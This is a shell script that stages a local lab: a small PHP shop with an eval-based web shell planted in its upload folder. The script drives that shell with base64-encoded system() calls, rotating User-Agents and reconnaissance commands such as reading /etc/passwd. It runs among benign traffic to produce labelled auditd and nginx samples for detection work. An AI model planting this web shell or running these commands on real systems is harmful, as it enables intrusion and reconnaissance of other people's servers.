#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/webshell-manager: a POST web shell driven the way
# web-shell managers drive one (info and file actions that run nothing,
# then commands, a fresh browser User-Agent for each request) among
# more than 20 requests a second of benign GET and POST traffic, with a
# real auditd on this machine.
#
#   sh tools/capture/webshell-manager.sh [OUTDIR]   (as root; default samples/webshell-manager)
#
# What it sets up, under a temporary directory and torn down after:
# - auditd with its own configuration: ENRICHED format, node=shop02,
#   execve/execveat rules for both arches;
# - php-fpm 8.2 (six children as www-data, no access log of its own);
# - nginx on 127.0.0.1:8099 in the +05:30 zone, combined format (the
#   time a request completed), serving /srv/www/shop: a shop (index,
#   product pages, a cart taking POSTs, a search form) and, in its
#   upload folder, media/cache/img.php: <?php @eval($_POST['k']);
# - four client loops from 127.0.0.10 to 127.0.0.25, about 25 requests
#   a second, while 127.0.0.66 works the shell.
# truth.tsv: the attacker's requests that ran a command (time curl
# started, client, method, path, the exact command).
#
# Needs: auditd, nginx, php8.2-fpm, curl.  Removes only the audit rules
# it added; refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/webshell-manager}")
NODE=shop02
FORMAT=ENRICHED
WEB=/srv/www/shop
PORT=8099
BASE="http://127.0.0.1:$PORT"
SHELL_PATH=/media/cache/img.php
. "$(dirname "$0")/lib.sh"

cap_start
mkdir -p "$WEB/media/cache"

# --- the web application -------------------------------------------------
cat > "$WEB/index.php" <<'PHP'
<?php echo "<h1>Shop</h1>\n"; for ($i = 1; $i < 9; $i++) echo "<a href=/product.php?id=$i>$i</a>\n";
PHP
cat > "$WEB/product.php" <<'PHP'
<?php $id = (int)($_GET['id'] ?? 1); echo "<h2>Product $id</h2>\n";
PHP
cat > "$WEB/cart.php" <<'PHP'
<?php echo json_encode(['items' => (int)($_POST['qty'] ?? 0), 'sku' => substr($_POST['sku'] ?? '', 0, 12)]);
PHP
cat > "$WEB/search.php" <<'PHP'
<?php echo "Results for " . htmlspecialchars($_POST['q'] ?? '') . "\n";
PHP
printf 'GIF89a' > "$WEB/media/cache/p1.gif"
cat > "$WEB$SHELL_PATH" <<'PHP'
<?php @eval($_POST['k']);
PHP
chown -R www-data:www-data "$WEB"

# --- php-fpm and nginx -----------------------------------------------------
cap_fpm 6 Asia/Kolkata
cap_nginx_php Asia/Kolkata

# --- traffic ----------------------------------------------------------------
shop() {	# I: client loop body, GETs and POSTs
	c=127.0.0.$((10 + ($1 * 7 + LOOP) % 16))
	ua=$(browser_ua "$(($1 + LOOP))")
	case $(($1 % 5)) in
	0) curl -s -o /dev/null --interface "$c" -A "$ua" "$BASE/" ;;
	1|2) curl -s -o /dev/null --interface "$c" -A "$ua" "$BASE/product.php?id=$(($1 % 9))" ;;
	3) curl -s -o /dev/null --interface "$c" -A "$ua" \
	    --data "sku=A$1&qty=$(($1 % 4 + 1))" "$BASE/cart.php" ;;
	*) curl -s -o /dev/null --interface "$c" -A "$ua" \
	    --data "q=red+shoes+$1" "$BASE/search.php" ;;
	esac
}
for l in 0 1 2 3; do
	LOOP=$l
	cap_loop 220 shop
done

N=0
k() {		# PHP code for the shell, with a fresh User-Agent
	N=$((N + 1))
	curl -s -o /dev/null --interface 127.0.0.66 -A "$(browser_ua $N)" \
	    -H "Referer: $BASE/" --data-urlencode "k=$1" "$BASE$SHELL_PATH" || true
}
b64() { printf '%s' "$1" | base64 -w0; }
run() {		# COMMAND
	truth 127.0.0.66 POST "$SHELL_PATH" "$1"
	k "@system(base64_decode('$(b64 "$1")'));"
	sleep 0.3
	k "echo json_encode(scandir(getcwd()));"		# a file action
	sleep 0.7
}
sleep 2
k "echo phpversion(),'|',php_uname(),'|',getcwd();"	# info: nothing runs
sleep 0.4
k "echo json_encode(scandir('/srv/www'));"
sleep 0.3
k "echo file_get_contents('$WEB/index.php');"
sleep 1
run "id"
run "uname -a"
run "ls -la /srv/www"
run "cat /etc/passwd | grep -v nologin"
run "ps -eo user,pid,cmd | grep -c php"
run "find / -maxdepth 2 -name '*.conf' -newer /etc/hostname"
run "echo c2hlbGx0cmFpbA== | base64 -d"
run "netstat -tln || ss -tln"

# --- collect ----------------------------------------------------------------
cap_collect
cap_collect_nginx_php
cap_done
